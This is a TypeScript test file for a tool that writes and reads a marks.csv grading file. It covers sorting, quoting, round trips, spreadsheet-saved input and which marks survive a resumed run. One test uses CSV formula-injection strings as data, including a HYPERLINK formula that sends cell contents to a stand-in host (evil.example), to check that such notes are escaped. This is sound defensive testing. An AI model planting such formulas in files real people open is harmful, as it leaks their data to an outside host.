import { describe, expect, it } from 'vitest';
import { MARKS_COLUMNS, isRunsOwnRow, type MarkRow } from '../../src/run-dir/marks/marks-file.js';
import { formatMarks } from '../../src/run-dir/marks/format-marks.js';
import { parse } from 'csv-parse/sync';
import { parseMarks } from '../../src/run-dir/marks/read-marks.js';
import { marksFor } from '../../src/run-dir/marks/run-marks.js';
import { repId, type RunState } from '../../src/run-dir/run-state.js';

describe('marks.csv', () => {
  it('starts with the header fixture,rep,mark,note and has one line per plain row', () => {
    expect(MARKS_COLUMNS).toEqual(['fixture', 'rep', 'mark', 'note']);
    expect(formatMarks([])).toBe('fixture,rep,mark,note\n');
    expect(
      formatMarks([
        { fixture: 'base', rep: 1, mark: '', note: '' },
        { fixture: 'base', rep: 2, mark: 'error', note: 'sut: timeout: no answer within 1 s' },
      ]),
    ).toBe('fixture,rep,mark,note\nbase,1,,\nbase,2,error,sut: timeout: no answer within 1 s\n');
  });

  it('sorts rows by fixture, then by rep as a number (rep 10 after rep 9), without touching its argument', () => {
    const rows: MarkRow[] = [
      { fixture: 'b', rep: 10, mark: 'pass', note: '' },
      { fixture: 'b', rep: 9, mark: 'fail', note: '' },
      { fixture: 'a-b', rep: 1, mark: '', note: '' },
      { fixture: 'b', rep: 2, mark: 'na', note: '' },
      { fixture: 'a', rep: 11, mark: '', note: '' },
      { fixture: 'a', rep: 1, mark: '', note: '' },
    ];
    const copy = structuredClone(rows);
    const lines = formatMarks(rows).trimEnd().split('\n');
    expect(lines).toEqual([
      'fixture,rep,mark,note',
      'a,1,,',
      'a,11,,',
      'a-b,1,,',
      'b,2,na,',
      'b,9,fail,',
      'b,10,pass,',
    ]);
    expect(rows).toEqual(copy);
  });

  it('writes a note that a spreadsheet would run as a formula behind a single quote, and reads it back as it was', () => {
    const notes = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '+1 for the route',
      '-0.5 points',
      '@SUM(A1:A9)',
      '\tindented',
      '\rafter a CR',
      "'=already quoted by its writer",
      "''=two quotes",
      "'just a quote",
      'plain = + - @ inside',
    ];
    const rows: MarkRow[] = notes.map((note, i) => ({ fixture: 'f', rep: i + 1, mark: 'fail', note }));
    const text = formatMarks(rows);
    expect(text.split('\n').slice(1, 5)).toEqual([
      `f,1,fail,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
      "f,2,fail,'+1 for the route",
      "f,3,fail,'-0.5 points",
      "f,4,fail,'@SUM(A1:A9)",
    ]);
    expect(text).toContain("f,5,fail,'\tindented\n");
    expect(text).toContain(`f,6,fail,"'\rafter a CR"\n`);
    expect(text).toContain("f,7,fail,''=already quoted by its writer\n");
    expect(text).toContain("f,8,fail,'''=two quotes\n");
    // Nothing a spreadsheet runs: no note cell starts with a formula character.
    for (const note of parseMarksRaw(text)) expect(note).not.toMatch(/^[=+\-@\t\r]/);
    // Text that needs no guard is written as it is.
    expect(text).toContain("f,9,fail,'just a quote\n");
    expect(text).toContain('f,10,fail,plain = + - @ inside\n');
    expect(parseMarks(text)).toEqual(rows);
    expect(formatMarks(parseMarks(text))).toBe(text);
    // Marks, reps and fixture names are not free text: they are written as they are.
    expect(formatMarks([{ fixture: '-f', rep: 1, mark: 'pass', note: '' }])).toBe(
      'fixture,rep,mark,note\n-f,1,pass,\n',
    );
  });

  it('round-trips notes with commas, quotes, line breaks, padding and unicode', () => {
    const rows: MarkRow[] = [
      { fixture: 'meridian-turn-23', rep: 1, mark: 'pass', note: 'right deck, right route' },
      { fixture: 'meridian-turn-23', rep: 2, mark: 'fail', note: 'said "deck 3", which is wrong' },
      { fixture: 'meridian-turn-23', rep: 3, mark: 'na', note: 'line one\nline two\r\nline three' },
      { fixture: 'meridian-turn-23', rep: 4, mark: '', note: 'café ☕ 日本語 🚀 — Ünïcödé' },
      { fixture: 'meridian-turn-23', rep: 5, mark: 'error', note: '  padded  ' },
      { fixture: 'meridian-turn-23', rep: 6, mark: 'pass', note: '"' },
      { fixture: 'meridian-turn-23', rep: 7, mark: 'pass', note: '\n' },
      { fixture: 'meridian-turn-23', rep: 8, mark: 'pass', note: '' },
      { fixture: 'meridian-turn-23', rep: 9, mark: 'fail', note: '#not a comment, "quoted", and\nmore' },
    ];
    const text = formatMarks(rows);
    expect(parseMarks(text)).toEqual(rows);
    // Fields a spreadsheet would misread are quoted, quotes doubled.
    expect(text).toContain('meridian-turn-23,1,pass,"right deck, right route"\n');
    expect(text).toContain('meridian-turn-23,2,fail,"said ""deck 3"", which is wrong"\n');
    expect(text).toContain('meridian-turn-23,3,na,"line one\nline two\r\nline three"\n');
    // And a second round trip changes nothing.
    expect(formatMarks(parseMarks(text))).toBe(text);
  });

  it('reads a file saved by a spreadsheet: BOM, CRLF, quoted fields, marks in other case, blank lines', () => {
    const text =
      '\ufefffixture,rep,mark,note\r\nbase,1,Pass ,"ok, fine"\r\nbase,2,FAIL,"multi\r\nline"\r\n\r\nbase,10,,\r\nfixed,3,na,plain\r\n';
    expect(parseMarks(text)).toEqual([
      { fixture: 'base', rep: 1, mark: 'pass', note: 'ok, fine' },
      { fixture: 'base', rep: 2, mark: 'fail', note: 'multi\r\nline' },
      { fixture: 'base', rep: 10, mark: '', note: '' },
      { fixture: 'fixed', rep: 3, mark: 'na', note: 'plain' },
    ]);
  });

  it('reads short rows (a spreadsheet drops trailing empty cells) as blank mark and note', () => {
    expect(parseMarks('fixture,rep,mark,note\nbase,1\nbase,2,pass\n')).toEqual([
      { fixture: 'base', rep: 1, mark: '', note: '' },
      { fixture: 'base', rep: 2, mark: 'pass', note: '' },
    ]);
  });
});

describe('marks a resume keeps', () => {
  const key = { fixture: 'alpha', rep: 1 };
  const state = (errored: boolean): RunState => ({
    manifest: {} as RunState['manifest'],
    order: [],
    completed: new Set(errored ? [] : [repId(key)]),
    errored: new Map(errored ? [[repId(key), 'sut: exit: exited with 1']] : []),
    records: new Map(),
  });
  const previous = (row: MarkRow): Map<string, MarkRow> => new Map([[repId(key), row]]);

  it('drops the error row the run wrote once the rep has run again, and keeps an error a person gave', () => {
    const runs = { ...key, mark: 'error' as const, note: 'sut: exit: exited with 1' };
    expect(isRunsOwnRow(runs)).toBe(true);
    expect(marksFor([key], state(false), previous(runs))).toEqual({
      rows: [{ ...key, mark: '', note: '' }],
      replaced: [],
    });
    const byHand = { ...key, mark: 'error' as const, note: 'looked broken' };
    expect(isRunsOwnRow(byHand)).toBe(false);
    expect(marksFor([key], state(false), previous(byHand)).rows).toEqual([byHand]);
    // A row with a grader is a person's (or a judge's), whatever its note says.
    const graded = { ...runs, grader: 'ann' };
    expect(marksFor([key], state(false), previous(graded)).rows).toEqual([graded]);
  });

  it("keeps a mark a person gave while the response it judged is the rep's, errored or not", () => {
    const pass = { ...key, mark: 'pass' as const, note: 'fine', grader: 'ann' };
    expect(marksFor([key], state(false), previous(pass))).toEqual({ rows: [pass], replaced: [] });
    const failOnCrash = { ...key, mark: 'fail' as const, note: 'I count a crash as a fail' };
    expect(marksFor([key], state(true), previous(failOnCrash))).toEqual({ rows: [failOnCrash], replaced: [] });
  });

  it('starts the row over when the rep ran again, and hands back the mark it replaced for the history file', () => {
    const failOnCrash = { ...key, mark: 'fail' as const, note: 'I count a crash as a fail' };
    const rerun = new Set([repId(key)]);
    // The rep ran again and answered: blank, to mark afresh.
    expect(marksFor([key], state(false), previous(failOnCrash), rerun)).toEqual({
      rows: [{ ...key, mark: '', note: '' }],
      replaced: [{ before: failOnCrash, after: { ...key, mark: '', note: '' } }],
    });
    // It ran again and failed again: the run's error row.
    const error = { ...key, mark: 'error' as const, note: 'sut: exit: exited with 1' };
    expect(marksFor([key], state(true), previous(failOnCrash), rerun)).toEqual({
      rows: [error],
      replaced: [{ before: failOnCrash, after: error }],
    });
    // The run's own rows are not a person's marks: nothing to keep.
    expect(marksFor([key], state(false), previous(error), rerun).replaced).toEqual([]);
  });
});

// The note cells of marks.csv text as a spreadsheet reads them (no turnkit reader in between).
function parseMarksRaw(text: string): string[] {
  return (parse(text) as string[][]).slice(1).map((record) => record[3] ?? '');
}
